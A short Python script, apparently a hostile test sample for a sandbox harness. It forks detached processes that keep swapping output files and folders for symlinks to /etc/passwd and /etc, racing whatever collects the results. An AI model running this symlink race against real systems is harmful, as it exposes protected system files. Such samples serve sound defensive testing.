# names that turn into links while the run ends
import os
os.mkdir("/out/dir")
open("/out/result.txt", "w").write("honest\n")
open("/out/dir/a", "w").write("honest\n")
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        n = os.getpid()
        while True:
            try:
                os.symlink("/etc/passwd", f"/out/l{n}")
                os.rename(f"/out/l{n}", "/out/result.txt")
                open(f"/out/f{n}", "w").write("honest\n")
                os.rename(f"/out/f{n}", "/out/result.txt")
                os.rename("/out/dir", f"/out/d{n}")
                os.symlink("/etc", "/out/dir")
                os.unlink("/out/dir")
                os.rename(f"/out/d{n}", "/out/dir")
            except OSError:
                pass
import time
time.sleep(0.3)
